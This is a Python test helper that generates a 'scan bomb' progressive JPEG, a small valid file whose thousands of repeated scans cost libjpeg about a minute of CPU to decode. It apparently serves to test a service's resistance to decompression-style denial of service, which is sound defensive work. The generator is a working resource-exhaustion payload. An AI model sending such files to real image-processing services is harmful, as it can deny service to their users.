"""Hostile request bodies made at test time (nothing committed): a progressive JPEG whose scans
cost the decoder far more work than its bytes suggest."""

from __future__ import annotations

import struct


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">HH", marker, len(payload) + 2) + payload


def scan_bomb_jpeg(scans: int = 5000, side: int = 4096) -> bytes:
    """A valid grayscale progressive JPEG of ``side`` x ``side`` with one DC scan and
    ``scans - 1`` identical AC scans.

    Each AC scan is 40 bytes: sixteen end-of-band runs of 16384 blocks (symbol 0xE0 coded as
    the single bit 0, plus 14 zero bits) cover all (side/8)^2 blocks at side=4096, yet libjpeg
    still visits every block in every scan: 5,000 scans of a 4096x4096 image are ~1.3e9 block
    visits (about a minute of CPU) from ~230 KB. The scans repeat Ah=Al=0, which libjpeg's
    progression check accepts (no warning), so the file decodes cleanly to a gray image.
    """
    blocks = (side // 8) ** 2
    if side % 1024:
        raise ValueError("side must be a multiple of 1024 (the block count a multiple of 16384)")
    out = b"\xff\xd8"
    out += _segment(0xFFDB, b"\x00" + b"\x01" * 64)  # one quantisation table of ones
    out += _segment(0xFFC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")  # SOF2, 1 component
    # Huffman tables: DC table 0 = {category 0: "0"}, AC table 0 = {EOB14 (0xE0): "0"}.
    lengths = b"\x01" + b"\x00" * 15
    out += _segment(0xFFC4, b"\x00" + lengths + b"\x00")
    out += _segment(0xFFC4, b"\x10" + lengths + b"\xe0")
    # DC scan: one "0" bit (difference 0) per block.
    out += _segment(0xFFDA, b"\x01\x01\x00\x00\x00\x00") + b"\x00" * (blocks // 8)
    # AC scan (Ss=1, Se=63): blocks/16384 runs of 15 zero bits each, padded with 1 bits.
    bits = blocks // 16384 * 15
    pad = -bits % 8
    ac = _segment(0xFFDA, b"\x01\x01\x00\x01\x3f\x00") + b"\x00" * (bits // 8) + (
        bytes([(1 << pad) - 1]) if pad else b"")
    return out + ac * (scans - 1) + b"\xff\xd9"
